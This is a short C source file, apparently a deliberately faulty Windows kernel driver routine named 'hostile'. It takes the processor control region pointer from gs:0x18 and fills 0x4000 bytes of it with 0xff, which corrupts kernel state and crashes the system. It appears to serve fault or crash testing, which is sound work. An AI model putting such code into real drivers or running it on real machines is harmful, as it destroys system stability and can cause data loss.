/* Overwrites its processor\x27s control region. */
#include "hostile.h"

static VOID
hostile(PDRIVER_OBJECT driver)
{
	UNREFERENCED_PARAMETER(driver);
	volatile UCHAR *region;

	__asm__ __volatile__("mov %%gs:0x18, %0" : "=r"(region));
	for (ULONG i = 0; i < 0x4000; i++)
		region[i] = 0xff;
}
